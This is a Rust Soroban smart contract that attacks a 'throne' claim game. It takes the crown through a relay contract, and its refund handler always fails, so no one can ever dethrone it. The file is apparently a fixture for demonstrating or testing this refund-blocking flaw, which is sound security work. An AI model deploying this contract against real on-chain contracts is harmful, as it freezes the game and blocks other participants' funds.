#![no_std]

use soroban_sdk::{
    auth::{ContractContext, InvokerContractAuthEntry, SubContractInvocation},
    contract, contractclient, contracterror, contractimpl, contracttype, token, vec,
    Address, Env, IntoVal, Symbol,
};

#[contractclient(name = "ThroneClient")]
pub trait Throne {
    fn claim(env: Env, claimant: Address, amount: i128, receiver: Option<Address>);
    fn get_token(env: Env) -> Address;
}

// Codes are disjoint from the throne's (1..=3): `attack` lets throne
// failures propagate raw, and overlapping codes would make a propagated
// throne error indistinguishable from a relay error at the call site.
#[contracterror]
#[derive(Copy, Clone, Debug, Eq, PartialEq, PartialOrd, Ord)]
#[repr(u32)]
pub enum Error {
    NotAuthorized = 4,
    RejectIncoming = 5,
}

#[contracttype]
#[derive(Clone)]
pub enum DataKey {
    Attacker,
}

/// Hostile claimant: takes the crown like any other participant, then
/// refuses every refund, so nobody can ever dethrone it.
#[contract]
pub struct UsurperContract;

#[contractimpl]
impl UsurperContract {
    pub fn __constructor(env: Env, attacker: Address) {
        env.storage().instance().set(&DataKey::Attacker, &attacker);
    }

    /// Claim the crown of `throne` on behalf of the attacker, registering
    /// this contract as the refund receiver. Only the address recorded at
    /// construction may call this; throne failures propagate unchanged.
    pub fn attack(env: Env, caller: Address, throne: Address, amount: i128) -> Result<(), Error> {
        let attacker: Address = env
            .storage()
            .instance()
            .get(&DataKey::Attacker)
            .expect("attacker not set");
        if caller != attacker {
            return Err(Error::NotAuthorized);
        }
        caller.require_auth();

        let relay = env.current_contract_address();
        let throne_client = ThroneClient::new(&env, &throne);
        let token_addr = throne_client.get_token();
        let token_client = token::Client::new(&env, &token_addr);

        // Stage the offer on this contract so the throne sees the usurper,
        // not the attacker, as the claimant it will later have to refund.
        token_client.transfer(&caller, &relay, &amount);

        // The throne pulls the escrow from this contract's balance, which
        // needs an explicit invoker-contract auth entry for the nested
        // token transfer.
        env.authorize_as_current_contract(vec![
            &env,
            InvokerContractAuthEntry::Contract(SubContractInvocation {
                context: ContractContext {
                    contract: token_addr.clone(),
                    fn_name: Symbol::new(&env, "transfer"),
                    args: (relay.clone(), throne.clone(), amount).into_val(&env),
                },
                sub_invocations: vec![&env],
            }),
        ]);

        throne_client.claim(&relay, &amount, &Some(relay.clone()));
        Ok(())
    }

    /// Receive path. Unconditional rejection is the whole point: once this
    /// contract holds a crown, every refund the throne attempts dies here.
    pub fn on_refund(_env: Env, _from: Address, _amount: i128) -> Result<(), Error> {
        Err(Error::RejectIncoming)
    }

    pub fn attacker(env: Env) -> Address {
        env.storage().instance().get(&DataKey::Attacker).expect("attacker not set")
    }
}
